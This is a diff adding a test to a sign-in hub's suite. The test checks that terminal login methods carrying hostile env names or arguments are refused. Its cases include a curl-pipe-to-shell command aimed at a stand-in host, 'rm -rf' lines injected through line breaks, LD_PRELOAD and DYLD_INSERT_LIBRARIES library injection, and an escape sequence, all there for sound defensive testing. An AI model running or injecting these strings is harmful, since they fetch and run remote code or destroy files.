@@ -436,4 +436,30 @@ describe('terminal sign-in', () => {
     await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(/run this in a terminal/);
     expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
   });
+
+  // No spec rule covers terminal sign-in; the brief's: bad agent input gets one plain sentence, nothing run.
+  // The method's env names, args and values come from the agent, and the line is pasted into a shell.
+  it.each([
+    ['a name that is shell syntax', { name: 'X=1; curl -s https://evil.example/p | sh; Y', value: 'z' }, [], /a name no shell accepts/],
+    ['a name holding a line break', { name: 'A\nrm -rf ~/important\nB', value: 'v' }, [], /a name no shell accepts/],
+    ['a loader variable', { name: 'LD_PRELOAD', value: '/tmp/evil.so' }, [], /LD_PRELOAD, which would make the command load code/],
+    ['a macOS loader variable', { name: 'DYLD_INSERT_LIBRARIES', value: '/tmp/evil.dylib' }, [], /DYLD_INSERT_LIBRARIES/],
+    ['a line break in an argument', { name: 'MODE', value: 'tty' }, ['--login\nrm -rf ~'], /control characters/],
+    ['an escape sequence in a value', { name: 'MODE', value: 'tty\u001b[8m' }, [], /control characters/],
+  ])('refuses a terminal method with %s, in one sentence, and shows no command', async (_, env, args, why) => {
+    rig = await startRig([{ id: 'a', name: 'Agent A' }]);
+    const { hub, puppets } = rig;
+    await handshake(hub, puppets[0], 'a', {
+      protocolVersion: 2,
+      info: { name: 'p', version: '1' },
+      capabilities: {},
+      authMethods: [{ methodId: 'login', type: 'terminal', name: 'Log in', args, env: [env] }],
+    });
+    const [method] = hub.snapshot().agents[0].authMethods;
+    expect(method.terminalCommand).toBeUndefined();
+    expect(method.description).toMatch(why);
+    expect(method.description).toMatch(/^Agent A's terminal sign-in was refused: [^\n]*\.$/);
+    await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(why);
+    expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
+  });
 });
